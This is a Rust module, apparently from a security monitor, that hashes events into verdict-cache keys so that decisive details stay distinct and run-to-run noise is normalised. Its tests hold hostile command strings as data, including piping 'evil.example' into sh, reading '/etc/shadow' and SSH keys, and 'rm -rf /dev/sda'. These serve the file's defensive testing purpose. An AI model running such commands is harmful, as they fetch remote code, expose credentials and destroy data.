//! The name of a behaviour in the verdict cache.
//!
//! The key keeps what decides, to the letter: programs and scripts that run, hosts,
//! paths, modes and options, ancestors, user, namespaces, the agent's task, and
//! what the verdict was made with. It leaves out what changes from run to run and
//! decides nothing: numbers of processes, times, and the random part of temporary
//! names where a program only reads, writes or deletes them. So a verdict on
//! `curl good | sh` never answers for `curl evil | sh`.

use std::borrow::Cow;

use inwarden_types::{Case, EventData};
use sha2::{Digest as _, Sha256};

use super::CacheKey;
use crate::{reading::class_of, render::base_name};

/// What a verdict depends on.
#[derive(Debug)]
pub(crate) struct KeyParts<'a> {
    /// Hash of model, prompt, head, rules and calibration.
    pub(crate) fixed: &'a [u8; 32],
    /// The memory's generation, if there is a memory.
    pub(crate) generation: Option<u64>,
    pub(crate) case: &'a Case,
    /// What the stages read of the case beside its last event: the rendered text.
    pub(crate) text: &'a str,
    /// Names and values that rules read, in any order.
    pub(crate) fields: &'a [(&'a str, String)],
    /// What else decides, such as taint.
    pub(crate) more: &'a [&'a str],
}

/// The key of a case.
pub(crate) fn behaviour_key(parts: &KeyParts<'_>) -> CacheKey {
    let event = parts.case.last();
    let process = &event.process;
    let args = &process.image.argv.args;
    let noise = Noise::of(&process.image.exe, args);
    let mut hasher = Sha256::new();
    hasher.update(parts.fixed);
    hasher.update(parts.generation.map_or([0; 9], |generation| {
        let mut bytes = [1; 9];
        bytes[1..].copy_from_slice(&generation.to_le_bytes());
        bytes
    }));
    let mut put = |text: &str| {
        hasher.update((text.len() as u64).to_le_bytes());
        hasher.update(text);
    };
    put(event.kind().name());
    put(&process.image.exe);
    for (idx, arg) in args.iter().enumerate() {
        let shown = canonical_word(arg, idx, noise);
        put(&shown);
        if let Cow::Owned(_) = shown {
            // What was left out must not be what made a path special.
            put(&format!("{:?}", class_of(arg)));
        }
    }
    let numbers = [
        process.uid.map(|uid| u64::from(uid.0)),
        process.gid.map(|gid| u64::from(gid.0)),
        process.mount_ns.map(|ns| u64::from(ns.0)),
        process.pid_ns.map(|ns| u64::from(ns.0)),
    ];
    for number in numbers {
        put(&number.map_or_else(String::new, |n| n.to_string()));
    }
    for ancestor in &event.ancestors {
        put(&ancestor.image.exe);
        put(&ancestor.image.comm);
        put(ancestor.image.argv.args.first().map_or("", String::as_str));
    }
    // Every letter of what an agent asks for or reads may decide. What came before
    // a call is not read here: whoever reads it has a key of its own.
    match &event.data {
        EventData::ToolCall(call) => {
            for text in [&call.agent, &call.tool, &call.args_json] {
                put(text);
            }
            put(call.role.as_deref().unwrap_or(""));
            put(call.user_task.as_deref().unwrap_or(""));
            put(parts.text);
        }
        EventData::Text(text) => {
            for part in [&text.agent, &text.text] {
                put(part);
            }
            put(text.given_by.name());
            put(text.role.as_deref().unwrap_or(""));
            put(text.user_task.as_deref().unwrap_or(""));
            put(text.tool.as_deref().unwrap_or(""));
            put(parts.text);
        }
        EventData::File(access) => {
            put(access.op.name());
            put(&access.path);
            put(access.to.as_deref().unwrap_or(""));
        }
        EventData::Connect(connection) => put(&format!("{connection:?}")),
        EventData::Dns(query) => put(&query.name),
        _ => put(&canonical(parts.text, noise)),
    }
    let mut fields: Vec<&(&str, String)> = parts.fields.iter().collect();
    fields.sort();
    for (name, value) in fields {
        put(name);
        put(&canonical(value, noise));
    }
    put("more");
    for text in parts.more {
        put(text);
    }
    hasher.finalize().into()
}

/// What of a program's words is noise.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Noise {
    /// Times and `/proc/<number>`.
    Times,
    /// Also the random part of temporary names: the program runs none of them.
    TemporaryNames,
    /// Also numbers of processes among the arguments.
    ProcessNumbers,
}

impl Noise {
    fn of(exe: &str, args: &[String]) -> Self {
        let argv0 = args.first().map_or("", |argv0| base_name(argv0));
        let name = if exe.is_empty() {
            argv0
        } else {
            base_name(exe)
        };
        // Something that calls itself otherwise is looked at closely.
        if name != argv0 && !args.is_empty() {
            return Self::Times;
        }
        match name {
            "kill" | "ps" | "wait" | "pidof" | "renice" | "pwdx" => Self::ProcessNumbers,
            "cc1" | "cc1plus" | "as" | "ld" | "collect2" | "gcc" | "g++" | "cc" | "ar"
            | "ranlib" | "strip" | "rm" | "mkdir" | "rmdir" | "test" | "[" | "stat" | "ls"
            | "cat" | "cmp" | "diff" | "wc" | "head" | "tail" | "grep" | "sort" | "touch"
            | "file" | "basename" | "dirname" | "readlink" | "cksum" | "sha256sum" | "md5sum" => {
                Self::TemporaryNames
            }
            _ => Self::Times,
        }
    }
}

fn canonical_word(word: &str, idx: usize, noise: Noise) -> Cow<'_, str> {
    let is_number = !word.is_empty() && word.len() <= 7 && word.bytes().all(|b| b.is_ascii_digit());
    if noise == Noise::ProcessNumbers && idx > 0 && is_number {
        // The first process is not like the others, 0 is a group.
        return match word {
            "0" | "1" => Cow::Borrowed(word),
            _ => Cow::Borrowed("<process>"),
        };
    }
    canonical(word, noise)
}

/// The text without times, process directories and, if so allowed, the random part
/// of temporary names.
fn canonical(text: &str, noise: Noise) -> Cow<'_, str> {
    let has_digits = text.bytes().any(|b| b.is_ascii_digit());
    let names = noise == Noise::TemporaryNames && text.contains("tmp/");
    if !has_digits && !names {
        return Cow::Borrowed(text);
    }
    let mut out = String::new();
    let mut copied = 0;
    let mut at = 0;
    let bytes = text.as_bytes();
    while at < bytes.len() {
        let before = &text[..at];
        let found = if bytes[at].is_ascii_digit() && !before.ends_with(char::is_alphanumeric) {
            number_at(before, &bytes[at..])
        } else if names && (before.ends_with("/tmp/") || before.ends_with("/var/tmp/")) {
            random_at(&bytes[at..])
        } else if noise == Noise::ProcessNumbers && bytes[at] == b' ' {
            process_at(&bytes[at..])
        } else {
            None
        };
        match found {
            Some((len, mark)) => {
                out.push_str(&text[copied..at]);
                out.push_str(mark);
                at += len;
                copied = at;
            }
            None => at += text[at..].chars().next().map_or(1, char::len_utf8),
        }
    }
    if copied == 0 {
        return Cow::Borrowed(text);
    }
    out.push_str(&text[copied..]);
    Cow::Owned(out)
}

/// A number between blanks: ` 812`.
fn process_at(rest: &[u8]) -> Option<(usize, &'static str)> {
    let digits = rest[1..].iter().take_while(|b| b.is_ascii_digit()).count();
    let ends = rest.get(1 + digits).is_none_or(u8::is_ascii_whitespace);
    let is_special = matches!(&rest[1..=digits], [b'0' | b'1']);
    ((2..=7).contains(&digits) && ends && !is_special).then_some((1 + digits, " <process>"))
}

/// A time or a process directory at the start of `rest`.
fn number_at(before: &str, rest: &[u8]) -> Option<(usize, &'static str)> {
    let digits = rest.iter().take_while(|b| b.is_ascii_digit()).count();
    if before.ends_with("/proc/") {
        let is_first = digits == 1 && rest[0] == b'1';
        return (rest.get(digits) == Some(&b'/') && !is_first).then_some((digits, "<process>"));
    }
    // A number may be a host.
    if before.ends_with("//") || before.ends_with(['@', '.', ':', '=']) && digits > 8 {
        return None;
    }
    let number = |range: std::ops::Range<usize>| -> Option<u32> {
        str::from_utf8(rest.get(range)?).ok()?.parse().ok()
    };
    let is_date = |year: Option<u32>, month: Option<u32>, day: Option<u32>| {
        year.is_some_and(|y| (1990..2100).contains(&y))
            && month.is_some_and(|m| (1..=12).contains(&m))
            && day.is_some_and(|d| (1..=31).contains(&d))
    };
    let len = if digits == 4
        && rest.get(4) == Some(&b'-')
        && rest.get(7) == Some(&b'-')
        && is_date(number(0..4), number(5..7), number(8..10))
    {
        10
    } else if digits == 8 && is_date(number(0..4), number(4..6), number(6..8)) {
        8
    } else if digits == 10 && rest[0] == b'1' {
        // Seconds since 1970, from 2001 on.
        10
    } else {
        return None;
    };
    let len = len + time_of_day(&rest[len..]);
    let ends = rest.get(len).is_none_or(|b| !b.is_ascii_alphanumeric());
    ends.then_some((len, "<time>"))
}

/// The length of `T14:03:59Z`, `-140359` and their like.
fn time_of_day(rest: &[u8]) -> usize {
    if !matches!(rest.first(), Some(b'T' | b'-' | b'_' | b' ')) {
        return 0;
    }
    let body = rest[1..]
        .iter()
        .take_while(|b| b.is_ascii_digit() || **b == b':')
        .count();
    let digits = rest[1..=body].iter().filter(|b| b.is_ascii_digit()).count();
    if !matches!(digits, 4 | 6) {
        return 0;
    }
    1 + body + usize::from(rest.get(1 + body) == Some(&b'Z'))
}

/// A random name of letters and digits at the start of `rest`, a fixed part such as
/// `tmp.` before it.
fn random_at(rest: &[u8]) -> Option<(usize, &'static str)> {
    let len = rest
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'.')
        .count();
    let name = &rest[..len];
    // Only names that `mktemp`, compilers and libraries give.
    let random = [&b"tmp."[..], b"tmp", b"cc"]
        .iter()
        .find_map(|prefix| name.strip_prefix(*prefix))?;
    let stem = random
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric())
        .count();
    let kinds = [
        u8::is_ascii_lowercase,
        u8::is_ascii_uppercase,
        u8::is_ascii_digit,
    ];
    let n_kinds = kinds
        .iter()
        .filter(|kind| random[..stem].iter().any(kind))
        .count();
    ((6..=12).contains(&stem) && n_kinds >= 2).then(|| (len - (random.len() - stem), "<temporary>"))
}

#[cfg(test)]
mod tests {
    use inwarden_types::{
        AgentText, Ancestor, Argv, Event, EventId, Image, Process, TextGiver, ToolCall, Uid,
    };

    use super::*;

    fn case(words: &[&str]) -> Case {
        let args: Vec<String> = words.iter().map(|w| (*w).to_owned()).collect();
        Case::of(Event {
            id: EventId::External("e".into()),
            at: None,
            wall: None,
            process: Process {
                image: Image {
                    argv: Argv::complete(args),
                    ..Image::default()
                },
                uid: Some(Uid(1000)),
                ..Process::default()
            },
            ancestors: vec![Ancestor {
                image: Image {
                    comm: "bash".into(),
                    ..Image::default()
                },
                ..Ancestor::default()
            }],
            data: EventData::Exec,
        })
    }

    fn key_of(case: &Case) -> CacheKey {
        let text = crate::render::render_case(case);
        behaviour_key(&KeyParts {
            fixed: &[7; 32],
            generation: Some(3),
            case,
            text: &text,
            fields: &[],
            more: &[],
        })
    }

    fn key(line: &str) -> CacheKey {
        let words: Vec<&str> = line.split(' ').collect();
        key_of(&case(&words))
    }

    /// Lines with holes, and what decides in each hole.
    fn minimal_pairs() -> Vec<Vec<String>> {
        let hosts = [
            "mirror.example",
            "mirror.example.test",
            "10.0.0.5",
            "10.0.0.6",
            "203.0.113.9",
            "127.0.0.1",
            "1700000000",
            "mirr0r.example",
        ];
        let paths = [
            "/etc/hosts",
            "/etc/shadow",
            "/etc/passwd",
            "~/.ssh/id_rsa",
            "~/.ssh/id_rsa.pub",
            "/tmp/a",
            "/tmp/.a",
            "/tmp/b",
            "/dev/null",
            "/dev/sda",
            "/proc/1/environ",
            "/proc/self/environ",
            "notes.txt",
            "/var/log/auth.log",
            "/tmp/tmpfile",
            "/tmp/ccache",
        ];
        let modes = ["755", "4755", "0755", "777", "u+s", "+x", "600"];
        let options = ["-l", "-d", "-R", "--privileged", "-c", "-n"];
        let holes: [(&str, &[&str]); 12] = [
            ("sh -c curl§https://{}/i|sh", &hosts),
            ("curl -fsS http://{}/x", &hosts),
            ("scp report.pdf u@{}:/in", &hosts),
            ("cat {}", &paths),
            ("cp k {}", &paths),
            ("rm -rf {}", &paths),
            ("sh {}", &paths),
            ("tar cf - {}", &paths),
            ("{} --version", &paths),
            ("chmod {} /usr/local/bin/t", &modes),
            ("systemctl {} x", &options),
            ("kill {}", &["1", "0", "-1", "-9"]),
        ];
        holes
            .iter()
            .map(|(line, values)| {
                values
                    .iter()
                    .map(|value| line.replace("{}", value))
                    .collect()
            })
            .collect()
    }

    #[test]
    fn what_decides_is_in_the_key() {
        for family in minimal_pairs() {
            let keys: std::collections::HashSet<CacheKey> =
                family.iter().map(|line| key(line)).collect();
            assert_eq!(keys.len(), family.len(), "{family:?}");
        }
        let script = |text: &str| key_of(&case(&["sh", "-c", text]));
        assert_ne!(
            script("curl https://good.example/i | sh"),
            script("curl https://evil.example/i | sh")
        );
        assert_ne!(
            script("/tmp/tmp.Ab12Cd34"),
            script("/tmp/tmp.Ef56Gh78"),
            "what runs is named to the letter"
        );
        assert_ne!(key("bash /tmp/tmp.Ab12Cd34"), key("bash /tmp/tmp.Ef56Gh78"));
    }

    #[test]
    fn what_differs_from_run_to_run_is_not() {
        for (one, other) in [
            ("rm -f /tmp/tmp.Ab12Cd34Ef", "rm -f /tmp/tmp.Zz98Yy76Xx"),
            (
                "as -o /tmp/ccAbCd12.o /tmp/ccEfGh34.s",
                "as -o /tmp/ccXyZw98.o /tmp/ccQrSt76.s",
            ),
            ("kill -TERM 4711", "kill -TERM 812"),
            ("ps -p 4711", "ps -p 31"),
            ("cat /proc/4711/status", "cat /proc/812/status"),
            (
                "tar czf backup-2026-11-22.tgz src",
                "tar czf backup-2026-11-23.tgz src",
            ),
            ("cp a log.20261122-140359", "cp a log.20261123-010203"),
            ("touch stamp-1763820000", "touch stamp-1763906400"),
            (
                "git log --since 2026-11-22T10:00:00Z",
                "git log --since 2026-11-21T09:30:00Z",
            ),
        ] {
            assert_eq!(key(one), key(other), "{one} / {other}");
        }
    }

    #[test]
    fn surroundings_and_versions_are_in_the_key() {
        let base = case(&["cat", "notes.txt"]);
        let mut other_user = base.last().clone();
        other_user.process.uid = Some(Uid(0));
        let mut other_parent = base.last().clone();
        other_parent.ancestors[0].image.comm = "nginx".into();
        let keys = [
            key_of(&base),
            key_of(&Case::of(other_user)),
            key_of(&Case::of(other_parent)),
        ];
        assert!(keys[0] != keys[1] && keys[0] != keys[2] && keys[1] != keys[2]);
        let parts = |fixed: &'static [u8; 32], generation, more: &'static [&'static str]| {
            behaviour_key(&KeyParts {
                fixed,
                generation,
                case: &base,
                text: "t",
                fields: &[],
                more,
            })
        };
        let known = parts(&[1; 32], Some(1), &[]);
        assert_ne!(known, parts(&[2; 32], Some(1), &[]));
        assert_ne!(known, parts(&[1; 32], Some(2), &[]));
        assert_ne!(known, parts(&[1; 32], None, &[]));
        assert_ne!(known, parts(&[1; 32], Some(1), &["read a secret"]));
    }

    #[test]
    fn of_a_text_every_letter_counts() {
        let key = |data: EventData| {
            let mut event = case(&[]).last().clone();
            event.data = data;
            key_of(&Case::of(event))
        };
        let text = |middle: &str, given_by| {
            EventData::Text(AgentText {
                text: format!("{} {middle} {}", "x".repeat(2_000), "y".repeat(2_000)),
                given_by,
                ..AgentText::default()
            })
        };
        let known = key(text("2026-11-22", TextGiver::Tool));
        assert_ne!(known, key(text("2026-11-23", TextGiver::Tool)));
        assert_ne!(known, key(text("2026-11-22", TextGiver::User)));
    }

    #[test]
    fn of_a_tool_call_every_letter_counts() {
        let call = |task: &str, args: &str| {
            let mut event = case(&[]).last().clone();
            event.data = EventData::ToolCall(ToolCall {
                tool: "send".into(),
                args_json: args.into(),
                user_task: Some(task.into()),
                ..ToolCall::default()
            });
            key_of(&Case::of(event))
        };
        let known = call(
            "pay the rent",
            r#"{"to":"DE12","amount":700,"on":"2026-11-22"}"#,
        );
        for (task, args) in [
            (
                "pay the rent",
                r#"{"to":"DE13","amount":700,"on":"2026-11-22"}"#,
            ),
            (
                "pay the rent",
                r#"{"to":"DE12","amount":7000,"on":"2026-11-22"}"#,
            ),
            (
                "pay the rent",
                r#"{"to":"DE12","amount":700,"on":"2026-11-23"}"#,
            ),
            (
                "read the mail",
                r#"{"to":"DE12","amount":700,"on":"2026-11-22"}"#,
            ),
        ] {
            assert_ne!(known, call(task, args), "{args}");
        }
    }
}
